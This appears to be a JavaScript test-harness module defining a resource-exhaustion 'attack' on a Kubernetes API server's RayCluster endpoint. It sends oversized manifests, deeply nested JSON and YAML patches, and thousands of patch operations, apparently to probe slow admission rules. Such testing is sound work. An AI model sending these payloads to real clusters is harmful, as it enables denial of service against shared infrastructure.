const CONNECTIONS = 4;
const KEYS = 60_000;
const GROUPS = 7_000;
const OPERATIONS = 30_000;
const DEPTH = 30_000;

/** @param {number} count */
function keys(count) {
  return Object.fromEntries(
    Array.from({ length: count }, (_, index) => [`k${index}`, '']),
  );
}

/** @param {object} more */
function manifest(more) {
  return JSON.stringify({
    apiVersion: 'ray.io/v1',
    kind: 'RayCluster',
    metadata: { name: 'hostile' },
    ...more,
  });
}

/** @type {import('./Target.mjs').Attack} */
export const kubernetesWrites = {
  name: 'objects and patches of a megabyte over the Kubernetes API',
  finding: 'each rule looks at each group and key',
  run: target => {
    const collection = `/apis/ray.io/v1/namespaces/${target.victim.namespace}/rayclusters`;
    const create = `${collection}?dryRun=All`;
    const path = `${collection}/example-00001?dryRun=All`;
    const type = 'content-type';
    const group = { groupName: 'g', rayStartParams: {}, template: {} };
    const nested = `${'{"a":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`;
    const operation = { op: 'add', path: '/metadata/labels/a', value: 'b' };
    const requests = [
      {
        path: create,
        body: manifest({
          spec: { workerGroupSpecs: Array(GROUPS).fill(group) },
        }),
        headers: { [type]: 'application/json' },
      },
      {
        path: create,
        body: manifest({ metadata: { name: 'x', annotations: keys(KEYS) } }),
        headers: { [type]: 'application/json' },
      },
      {
        path,
        method: 'PATCH',
        body: nested,
        headers: { [type]: 'application/merge-patch+json' },
      },
      {
        path,
        method: 'PATCH',
        body: JSON.stringify(Array(OPERATIONS).fill(operation)),
        headers: { [type]: 'application/json-patch+json' },
      },
      {
        path: `${path}&fieldManager=hostile&force=true`,
        method: 'PATCH',
        body: `spec: ${'['.repeat(DEPTH)}`,
        headers: { [type]: 'application/apply-patch+yaml' },
      },
    ];
    return target.repeat(CONNECTIONS, turn => requests[turn % requests.length]);
  },
};
